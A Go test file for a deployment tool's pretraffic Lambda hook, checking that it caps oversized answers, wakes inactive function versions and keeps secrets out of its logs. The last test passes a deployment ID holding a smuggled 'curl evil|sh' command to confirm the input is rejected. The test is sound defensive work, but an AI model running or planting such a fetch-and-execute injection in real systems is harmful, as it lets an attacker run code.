package main_test

import (
	"runtime"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/meta-deployer/meta-deployer/internal/runtimetest"
	"github.com/meta-deployer/meta-deployer/internal/wiretest"
)

// What a version answers is of its own making: CodeDeploy gets its status all the same, within the memory that the
// function is given at the least.
func TestPretrafficFunctionReadsNoEndlessAnswer(t *testing.T) {
	t.Parallel()
	path := runtimetest.Build(t, "./functions/pretraffic")
	const megabyte = 1 << 20
	a := &account{answers: map[string]func(wiretest.Call) wiretest.Answer{
		"lambda:Invoke": always(wiretest.Answer{Body: []byte(`{"ok":[` + strings.Repeat(`{},`, 2*megabyte-4) + `{}]}`)}),
	}}
	process, server := start(t, path, strings.Replace(probes, `"expect"`, `"compare": {"ignore": []}, "expect"`, 1), a)
	checkAnswer(t, process.Invoke(event(t, "codedeploy.json"), plenty), "Failed", "its answer is larger than 256 KB, which is not read")
	assert.Equal(t, []any{"Failed"}, statuses(server))
	assert.Less(t, len(process.Log()), 10_000)
	if runtime.GOOS == "linux" { // nobody else tells
		peak, err := process.PeakMemory()
		require.NoError(t, err)
		assert.Less(t, peak, 128*megabyte)
	}
}

// The first call of a version that Lambda has put to sleep fails and wakes it: the probe is made until it is awake.
func TestPretrafficFunctionWakesAVersion(t *testing.T) {
	t.Parallel()
	path := runtimetest.Build(t, "./functions/pretraffic")
	var invocations atomic.Int32
	a := &account{answers: map[string]func(wiretest.Call) wiretest.Answer{
		"lambda:GetFunctionConfiguration": always(wiretest.Answer{Body: object{"Version": "8", "State": "Inactive", "StateReasonCode": "Idle"}}),
		"lambda:Invoke": func(wiretest.Call) wiretest.Answer {
			switch invocations.Add(1) {
			case 1:
				return wiretest.Fail(502, "ResourceNotReadyException", "The function is inactive and its VPC connection is no longer available.")
			case 2, 3:
				return wiretest.Fail(409, "ResourceConflictException", "The function is currently in the following state: Pending")
			}
			return wiretest.Answer{Body: []byte(`{"ok":true}`)}
		},
	}}
	process, server := start(t, path, probes, a)
	checkAnswer(t, process.Invoke(event(t, "codedeploy.json"), plenty), "Succeeded", "passed 1 of 1 probes")
	assert.Equal(t, []any{"Succeeded"}, statuses(server))
	assert.EqualValues(t, 4, invocations.Load())
}

// Keys are exact, and the log tells neither payloads nor answers.
func TestPretrafficFunctionTellsNobodyElse(t *testing.T) {
	t.Parallel()
	path := runtimetest.Build(t, "./functions/pretraffic")
	a := &account{answers: map[string]func(wiretest.Call) wiretest.Answer{
		"lambda:Invoke": always(wiretest.Answer{Body: []byte(`{"ok":true,"token":"hunter2"}`)}),
	}}
	process, server := start(t, path, strings.Replace(probes, `{"ping": 1}`, `{"password": "hunter1"}`, 1), a)
	checkAnswer(t, process.Invoke(event(t, "rollout.json"), plenty), "Succeeded", "passed 1 of 1 probes")
	twice := strings.Replace(string(event(t, "codedeploy.json")), "{", `{"status": 1, "status": 2, `, 1)
	checkAnswer(t, process.Invoke([]byte(twice), plenty), "Failed", "the key status is given twice: give it once")
	assert.Equal(t, []any{"Failed"}, statuses(server))
	result := process.Invoke([]byte(`{"DeploymentId": "d-1; curl evil|sh #", "LifecycleEventHookExecutionId": 1}`), plenty)
	assert.Equal(t, "NotReported", result.ErrorType)
	assert.True(t, strings.HasSuffix(result.ErrorMessage, "aws deploy stop-deployment --deployment-id ID"), result.ErrorMessage)
	assert.NotContains(t, process.Log(), "hunter")
	assert.Contains(t, process.Log(), `"answer":"sha256 `)
}
